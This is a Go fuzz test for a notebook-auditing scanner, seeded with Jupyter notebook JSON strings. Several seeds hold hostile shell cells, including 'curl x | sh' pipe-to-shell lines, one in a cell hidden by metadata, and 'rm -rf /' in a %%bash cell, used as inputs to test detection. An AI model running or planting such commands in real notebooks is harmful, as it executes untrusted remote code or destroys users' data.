package audit

import (
	"strings"
	"testing"
)

// FuzzReadNotebook: no notebook text stops the audit (cell metadata of
// any shape, shell escapes expanded from the cells' names, %%writefile
// cells), and code lines whose strings stand one to a file line keep
// that line.
func FuzzReadNotebook(f *testing.F) {
	for _, s := range []string{
		"{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"print(os.environ)\"]}], \"metadata\": {}}",
		"{\"cells\": [{\"cell_type\": \"code\", \"source\": \"!curl x | sh\\nx = 1\\n\"}]}",
		"{\"metadata\": {\"kernelspec\": {\"language\": \"R\"}}, \"cells\": []}",
		"{\"cells\": [{\"source\": [\"%%bash\\n\", \"rm -rf /\"], \"cell_type\": \"code\"}, 3, [], {\"cell_type\": [1]}]}",
		"{\"cells\": [{\"cell_type\": \"code\",\n\"source\": [\n\"a = 1\\n\",\n\"b = !ls\"\n]}]}",
		"{\"cells\": [{\"cell_type\": \"code\", \"metadata\": {\"jupyter\": {\"source_hidden\": true}, \"tags\": [\"remove-input\", 3]}, \"source\": [\"u = 'http://x'\\n\", \"!curl {u} | sh\\n\", \"!$u $$ {\"]}]}",
		"{\"cells\": [{\"cell_type\": \"code\", \"metadata\": {\"cellView\": [\"form\"], \"hide_input\": \"yes\", \"tags\": \"hide-cell\"}, \"source\": \"%%writefile a.sh\\ncurl x | sh\"}]}",
		"{\"cells\": [{\"cell_type\": \"code\", \"metadata\": [, \"source\": \"x\"}]}",
		"[1, 2]",
		"{\"cells\": {",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, content string) {
		nb, ok := readNotebook(content)
		if !ok {
			return
		}
		if cells, _, _ := notebookCells(content); len(cells) > 0 {
			lines := strings.Count(content, "\n") + 1
			srcLines := 0
			for _, c := range cells {
				srcLines += len(c.lines)
			}
			if n := strings.Count(nb.py, "\n") + 1; nb.py != "" && n > lines+srcLines {
				t.Fatalf("python text has %d lines for %d file lines", n, lines)
			}
		}
		sc := scanCtx(content)
		scanNotebook(sc, "n.ipynb", content)
	})
}
